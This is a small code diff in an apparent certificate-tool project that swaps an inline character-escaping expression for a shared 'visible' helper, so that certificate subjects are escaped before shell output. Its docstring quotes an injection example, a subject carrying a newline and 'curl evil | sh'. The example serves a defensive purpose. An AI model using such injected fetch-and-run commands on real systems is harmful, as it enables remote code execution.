@@ -4,6 +4,8 @@ from __future__ import annotations
 
 from typing import TYPE_CHECKING, Any
 
+from certkit.text import visible
+
 if TYPE_CHECKING:
     from certkit.deploy.trust import TrustResult
 
@@ -15,7 +17,7 @@ def shell_comment(text: str) -> str:
     A root certificate's subject, a file name or a host come from outside: a subject
     "CN=x<newline>curl evil | sh" would otherwise become a command of `eval "$(certkit trust)"`.
     """
-    return "".join(ch if ch.isprintable() or ch == " " else ch.encode("unicode_escape").decode("ascii") for ch in text)
+    return visible(text)
 
 
 def trust_text(result: TrustResult) -> str:
